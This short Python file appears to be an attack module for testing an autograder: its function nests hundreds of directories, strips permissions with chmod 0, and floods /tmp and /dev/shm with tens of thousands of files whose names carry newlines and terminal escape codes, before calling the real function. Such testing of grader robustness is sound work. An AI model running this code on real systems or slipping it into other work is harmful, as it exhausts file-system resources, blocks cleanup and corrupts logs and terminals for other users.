"""Makes files until no entry is left, in folders a thousand deep and with odd names."""

import os


def during(name, honest, args, kwargs):
    for _ in range(300):
        try:
            os.mkdir("d" * 50)
            os.chdir("d" * 50)
        except OSError:
            break
    os.chmod(".", 0)
    for place in ("/tmp", "/dev/shm"):
        for number in range(30_000):
            try:
                os.close(
                    os.open(
                        f"{place}/autograder-attack-{TOKEN}-{os.getpid()}-\n\x1b[31m{number}",
                        os.O_CREAT,
                    )
                )
            except OSError:
                break
    return honest(*args, **kwargs)
